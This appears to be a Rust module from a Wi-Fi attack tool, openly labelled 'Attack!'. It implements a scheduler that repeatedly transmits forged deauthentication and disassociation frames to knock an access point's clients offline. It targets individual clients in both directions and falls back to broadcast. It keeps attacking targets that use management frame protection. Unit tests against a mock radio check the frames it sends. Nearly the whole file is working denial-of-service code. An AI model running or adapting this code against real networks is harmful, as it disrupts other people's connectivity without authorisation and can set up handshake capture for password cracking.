// Attack! //

use std::sync::Arc;

use libwifi::frame::components::MacAddress;
use libwifi::frame::ReasonCode;

use crate::radio::Radio;
use crate::status::MessageLog;
use crate::tx::{
    build_deauthentication_fm_ap, build_deauthentication_fm_client, build_disassociation_fm_ap,
    SequenceCounter,
};

/// One deauth run against a single access point.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DeauthSession {
    pub target: MacAddress,
    pub channel: u8,
    pub pmf: bool,
    pub started: u64,
    pub last_burst: Option<u64>,
    pub bursts: u32,
    /// Frames handed to the radio during this session.
    pub frames_sent: u32,
    pub failures: u32,
}

impl DeauthSession {
    fn new(target: MacAddress, channel: u8, pmf: bool, now: u64) -> Self {
        DeauthSession {
            target,
            channel,
            pmf,
            started: now,
            last_burst: None,
            bursts: 0,
            frames_sent: 0,
            failures: 0,
        }
    }
}

/// Emits deauth bursts on a fixed interval until stopped.
pub struct DeauthScheduler {
    radio: Arc<dyn Radio>,
    sequence: SequenceCounter,
    session: Option<DeauthSession>,
    burst_count: u8,
    interval_ms: u64,
    total_frames: u64,
}

impl DeauthScheduler {
    pub fn new(radio: Arc<dyn Radio>, burst_count: u8, interval_ms: u64) -> Self {
        DeauthScheduler {
            radio,
            sequence: SequenceCounter::default(),
            session: None,
            burst_count: burst_count.max(1),
            interval_ms,
            total_frames: 0,
        }
    }

    /// Begin (or retarget) a session. The first burst goes out on the next tick.
    pub fn start(&mut self, target: MacAddress, channel: u8, pmf: bool, now: u64, log: &mut MessageLog) {
        if self.session.as_ref().is_some_and(|s| s.target == target) {
            return;
        }
        if pmf {
            // Frames still go out; the log line records that they probably won't land.
            log.warning(format!(
                "{} uses management frame protection, deauth is unlikely to work",
                target.to_long_string()
            ));
        }
        log.priority(format!(
            "Deauth started: {} on channel {}",
            target.to_long_string(),
            channel
        ));
        self.session = Some(DeauthSession::new(target, channel, pmf, now));
    }

    pub fn stop(&mut self) -> Option<DeauthSession> {
        self.session.take()
    }

    pub fn is_active(&self) -> bool {
        self.session.is_some()
    }

    pub fn target(&self) -> Option<MacAddress> {
        self.session.as_ref().map(|s| s.target)
    }

    pub fn session(&self) -> Option<&DeauthSession> {
        self.session.as_ref()
    }

    pub fn last_burst(&self) -> Option<u64> {
        self.session.as_ref().and_then(|s| s.last_burst)
    }

    pub fn total_frames(&self) -> u64 {
        self.total_frames
    }

    /// Send a burst if the interval has passed. Returns the number of frames sent.
    pub fn tick(&mut self, now: u64, clients: &[MacAddress], log: &mut MessageLog) -> usize {
        let due = match &self.session {
            None => false,
            Some(session) => session
                .last_burst
                .map_or(true, |last| now.saturating_sub(last) >= self.interval_ms),
        };
        if !due {
            return 0;
        }
        self.burst(now, clients, log)
    }

    fn burst(&mut self, now: u64, clients: &[MacAddress], log: &mut MessageLog) -> usize {
        let Some(target) = self.target() else {
            return 0;
        };

        let broadcast = [MacAddress::broadcast()];
        let stations: &[MacAddress] = if clients.is_empty() {
            &broadcast
        } else {
            clients
        };

        let mut frames: Vec<[u8; 26]> = Vec::new();
        for _ in 0..self.burst_count {
            for station in stations {
                frames.push(build_deauthentication_fm_ap(
                    &target,
                    station,
                    self.sequence.next(),
                    ReasonCode::Class3FrameFromNonAssociatedStation,
                ));
                if !station.is_broadcast() {
                    frames.push(build_deauthentication_fm_client(
                        &target,
                        station,
                        self.sequence.next(),
                        ReasonCode::Unspecified,
                    ));
                }
            }
        }
        frames.push(build_disassociation_fm_ap(
            &target,
            &MacAddress::broadcast(),
            self.sequence.next(),
        ));

        let mut sent = 0;
        let mut failed = 0;
        for frame in &frames {
            match self.radio.transmit(frame) {
                Ok(()) => sent += 1,
                Err(_) => failed += 1,
            }
        }

        self.total_frames += sent as u64;
        if let Some(session) = self.session.as_mut() {
            session.last_burst = Some(now);
            session.bursts += 1;
            session.frames_sent += sent as u32;
            session.failures += failed;
        }
        if failed > 0 {
            log.warning(format!(
                "Deauth burst against {}: {} of {} frames failed to transmit",
                target.to_long_string(),
                failed,
                frames.len()
            ));
        }
        sent
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::radio::MockRadio;

    const AP: MacAddress = MacAddress([0xf8, 0x32, 0xe4, 0xad, 0x47, 0xb8]);
    const STA: MacAddress = MacAddress([0xc0, 0xee, 0xfb, 0x4b, 0xcf, 0x3a]);

    fn scheduler() -> (Arc<MockRadio>, DeauthScheduler) {
        let radio = Arc::new(MockRadio::new());
        let scheduler = DeauthScheduler::new(radio.clone(), 5, 180);
        (radio, scheduler)
    }

    #[test]
    fn test_broadcast_burst() {
        let (radio, mut deauth) = scheduler();
        let mut log = MessageLog::default();
        deauth.start(AP, 6, false, 0, &mut log);

        assert_eq!(deauth.tick(0, &[], &mut log), 6);
        let frames = radio.transmitted();
        assert_eq!(frames.len(), 6);
        assert!(frames[..5].iter().all(|f| f[0] == 0xc0 && f[4..10] == [0xff; 6]));
        assert_eq!(frames[5][0], 0xa0);

        // Not due yet.
        assert_eq!(deauth.tick(100, &[], &mut log), 0);
        assert_eq!(deauth.tick(180, &[], &mut log), 6);
        assert_eq!(deauth.session().map(|s| s.frames_sent), Some(12));
        assert_eq!(deauth.session().map(|s| s.bursts), Some(2));
    }

    #[test]
    fn test_client_burst_is_bidirectional() {
        let (radio, mut deauth) = scheduler();
        let mut log = MessageLog::default();
        deauth.start(AP, 6, false, 0, &mut log);

        assert_eq!(deauth.tick(0, &[STA], &mut log), 11);
        let frames = radio.transmitted();
        assert_eq!(&frames[0][4..10], &STA.0);
        assert_eq!(&frames[0][24..], &[7, 0]);
        assert_eq!(&frames[1][4..10], &AP.0);
        assert_eq!(&frames[1][24..], &[1, 0]);
    }

    #[test]
    fn test_pmf_target_still_attacked() {
        let (radio, mut deauth) = scheduler();
        let mut log = MessageLog::default();
        deauth.start(AP, 11, true, 0, &mut log);

        assert!(log.contains("management frame protection"));
        assert_eq!(deauth.tick(0, &[], &mut log), 6);
        assert_eq!(radio.transmitted().len(), 6);
    }

    #[test]
    fn test_stop_halts_bursts() {
        let (radio, mut deauth) = scheduler();
        let mut log = MessageLog::default();
        deauth.start(AP, 6, false, 0, &mut log);
        deauth.tick(0, &[], &mut log);

        let session = deauth.stop().unwrap();
        assert_eq!(session.target, AP);
        assert_eq!(deauth.tick(1_000, &[], &mut log), 0);
        assert_eq!(radio.transmitted().len(), 6);
        assert_eq!(deauth.total_frames(), 6);
    }

    #[test]
    fn test_transmit_failures_counted() {
        let (radio, mut deauth) = scheduler();
        let mut log = MessageLog::default();
        radio.set_fail_transmit(true);
        deauth.start(AP, 6, false, 0, &mut log);

        assert_eq!(deauth.tick(0, &[], &mut log), 0);
        assert_eq!(deauth.session().map(|s| s.failures), Some(6));
        assert!(log.contains("failed to transmit"));
    }
}
